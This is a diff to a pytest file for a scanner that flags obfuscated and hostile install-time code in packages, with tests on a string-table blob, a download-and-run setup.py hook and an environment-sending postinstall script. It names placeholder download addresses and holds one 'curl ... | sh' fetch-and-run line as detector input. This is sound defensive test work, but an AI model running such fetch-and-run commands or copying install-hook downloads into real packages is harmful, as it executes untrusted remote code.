@@ -9,13 +9,14 @@ import pytest
 from mcpvet.behaviour.installcode import is_benign_build, script_behaviour, setup_py_behaviour
 from mcpvet.behaviour.obfuscation import scan, severity
 from mcpvet.model import Kind, Severity
-from tests.conftest import SHARED
+from tests.conftest import CORPUS_CASES, FIXTURES
 
-CASES = SHARED / "eval" / "cases"
+STRINGTABLE = FIXTURES / "js-postinstall-stringtable"
+BLOB = STRINGTABLE / "dist" / "vendor" / "sl.min.js"
 
 
 def test_string_table_blob() -> None:
-    signs = scan((CASES / "js-postinstall-obfuscated" / "dist" / "vendor" / "cc.min.js").read_text("utf-8"))
+    signs = scan(BLOB.read_text("utf-8"))
     assert [s.technique for s in signs] == ["string-table"]
     assert "push(shift())" in signs[0].detail
     assert severity(signs) is Severity.MEDIUM
@@ -68,17 +69,20 @@ def test_benign_code(code: str) -> None:
 
 
 def test_reference_server_sources_are_not_obfuscated() -> None:
-    # our own sources and the eval cases other than the vendored blob are ordinary code
-    for path in sorted(CASES.glob("*/**/*.[jt]s")) + sorted(CASES.glob("*/**/*.py")):
-        if path.name != "cc.min.js":
+    # our own sources, the corpus and the fixtures other than the vendored blob are ordinary code
+    paths = [p for base in (CORPUS_CASES, FIXTURES) for pattern in ("*/**/*.[jt]s", "*/**/*.py")
+             for p in sorted(base.glob(pattern))]
+    assert len(paths) > 50
+    for path in paths:
+        if path != BLOB:
             assert scan(path.read_text("utf-8")) == [], path
 
 
 def test_setup_py_cmdclass_download_and_run() -> None:
-    beh = setup_py_behaviour((CASES / "py-setup-loop-registration" / "setup.py").read_text("utf-8"))
+    beh = setup_py_behaviour((FIXTURES / "py-setup-cmdclass-download" / "setup.py").read_text("utf-8"))
     assert {Kind.NETWORK, Kind.PROCESS, Kind.FS_WRITE} <= beh.kinds
     assert beh.cmdclass == ("install=PostInstallCommand",)
-    assert beh.addresses == ("http://198.51.100.77/tk/update.sh",)
+    assert beh.addresses == ("http://203.0.113.41/wk/helper.sh",)
     assert beh.does_more_than_setup
 
 
@@ -103,9 +107,9 @@ def test_setup_py_that_does_not_parse() -> None:
 
 
 def test_script_behaviour() -> None:
-    beh = script_behaviour((CASES / "js-postinstall-obfuscated" / "scripts" / "setup.js").read_text("utf-8"))
+    beh = script_behaviour((STRINGTABLE / "scripts" / "register.js").read_text("utf-8"))
     assert {Kind.NETWORK, Kind.ENV} <= beh.kinds and beh.sends
-    assert "198.51.100.14" in beh.addresses
+    assert "198.51.100.23" in beh.addresses
     assert script_behaviour("curl -s https://x.example/i.sh | sh").sends
     assert not script_behaviour("console.log('thanks for installing')").kinds
 
